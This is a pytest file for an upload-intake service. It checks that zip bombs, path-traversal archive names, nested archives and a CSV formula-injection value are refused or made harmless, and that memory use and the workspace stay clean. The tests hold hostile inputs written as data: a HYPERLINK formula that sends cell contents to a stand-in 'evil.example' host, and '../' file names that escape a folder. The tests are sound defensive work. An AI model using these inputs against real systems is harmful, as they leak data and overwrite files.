"""Files that were made to do harm, sent by the page and over the API: each ends in a sentence, and the desk goes on.

What the intake does with them is in `tests/spec/test_formats_of_files.py`; here they come in as people send them.
"""

import io
import re
import zipfile
from collections.abc import Callable
from functools import cache
from html import unescape
from pathlib import Path

import pytest
from desks import HEADER, ROW, Desk, opened
from starlette.testclient import TestClient

BOMB, MOST = 300 << 20, 100 << 20
"""Bytes that a bomb unpacks to, and that the desk may grow by while it finds that out."""
TOO_MUCH = "The archive unpacks to more than 200 times its size; send it unpacked."
OUT = "A file in the archive has a name that leads out of it; pack it again."
REPORT = (HEADER + ROW.format("H1")).encode()


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    return opened(tmp_path_factory.mktemp("desk"))


def archive(*files: tuple[str, bytes], times: int = 1) -> bytes:
    """Return a ZIP archive of files with any names; the content of each so many times."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as members:
        for name, content in files:
            with members.open(name, "w") as member:
                for _ in range(times):
                    member.write(content)
    return packed.getvalue()


@cache
def bomb() -> bytes:
    return archive(("reports.csv", bytes(1 << 20)), times=BOMB >> 20)


@cache
def many_bombs() -> bytes:
    """Each unpacks to what is always allowed; together they would fill a disk."""
    return archive(*((f"{number}.csv", bytes(1 << 20)) for number in range(25)), times=12)


def page_sent(desk: Desk, name: str, content: bytes) -> TestClient:
    supplier = desk.signed_in("supplier", "helpline")
    file = {"file": (name, content, "application/zip")}
    assert supplier.post("/deliveries", data={"partner": "helpline"}, files=file).status_code == 303
    return supplier


def api_sent(desk: Desk, name: str, content: bytes) -> TestClient:
    about = {"partner": "helpline", "file-name": name}
    assert desk.machine().post("/api/v1/deliveries", params=about, content=content).status_code == 202
    return desk.signed_in("supplier", "helpline")


BY = pytest.mark.parametrize("sent", [page_sent, api_sent], ids=["page", "API"])


def memory(what: str) -> int:
    """Bytes that this process holds (`VmRSS`), or the most that it held (`VmHWM`) since `clear_refs` was written."""
    [found] = re.findall(rf"{what}:\s+(\d+) kB", Path("/proc/self/status").read_text())
    return int(found) << 10


@BY
@pytest.mark.parametrize(
    ("name", "made", "sentence"),
    [
        ("bomb.zip", bomb, TOO_MUCH),
        ("bombs.zip", many_bombs, TOO_MUCH),
        ("out.zip", lambda: archive(("a.csv", REPORT), ("../../../alliance.csv", REPORT)), OUT),
        ("windows.zip", lambda: archive(("..\\..\\alliance.csv", REPORT)), OUT),
        (
            "nested.zip",
            lambda: archive(("inner.zip", archive(("reports.csv", REPORT)))),
            "The file is a ZIP archive or a spreadsheet",
        ),
    ],
)
def test_an_archive_made_to_do_harm_is_refused_in_a_sentence(
    desk: Desk, sent: Callable[..., TestClient], name: str, made: Callable[[], bytes], sentence: str
) -> None:
    supplier = sent(desk, name, made())
    before = {path for path in desk.office.folder.parent.rglob("*") if ".schakel" not in path.parts}
    Path("/proc/self/clear_refs").write_text("5")
    held = memory("VmRSS")
    [told] = desk.work()
    assert memory("VmHWM") - held < MOST, "what is unpacked is never in memory whole"
    assert told.count("\n") == 0 and told.startswith("Refused as a whole") and sentence in told
    last = supplier.get("/api/v1/deliveries").json()["deliveries"][0]
    assert (last["file-name"], last["accepted"]) == (name, 0)
    assert sentence in unescape(supplier.get(f"/deliveries/{last['number']}").text)
    # Nothing is beside the workspace, and nothing unpacked is left in it.
    assert {path for path in desk.office.folder.parent.rglob("*") if ".schakel" not in path.parts} == before
    assert not [*desk.office.workspace.drafts.glob("*/*")]


@BY
def test_a_folder_in_an_archive_is_no_way_out_of_it(desk: Desk, sent: Callable[..., TestClient]) -> None:
    rows = [(HEADER + ROW.format(f"{sent.__name__}{number}")).encode() for number in (1, 2)]
    sent(desk, "folders.zip", archive(("./a.csv", rows[0]), ("data/b.csv", rows[1]), ("__MACOSX/._a.csv", b"x")))
    assert desk.work() == ["folders.zip, 2 rows: 2 accepted, 0 refused."]


@BY
def test_a_formula_is_a_text_wherever_it_is_shown(desk: Desk, sent: Callable[..., TestClient]) -> None:
    formula = '=HYPERLINK("http://evil.example?"&A1)'
    quoted = formula.replace('"', '""')
    row = f'R-{sent.__name__},"{quoted}",work under duress,,,no,Northtown,\n'
    supplier = sent(desk, "formula.csv", (HEADER + row).encode())
    assert desk.work() == ["formula.csv, 1 row: 0 accepted, 1 refused."]
    place = supplier.get("/api/v1/deliveries").json()["deliveries"][0]
    shown = supplier.get(f"/deliveries/{place['number']}").text
    assert formula in unescape(shown) and formula not in shown
    assert f"'{quoted}" in supplier.get(f"/deliveries/{place['number']}/refused-rows.csv").text
    # A machine gets the value as it is.
    rows = supplier.get(f"{place['href']}/refused-rows").json()["refused-rows"]
    assert formula in {one["value"] for one in rows}
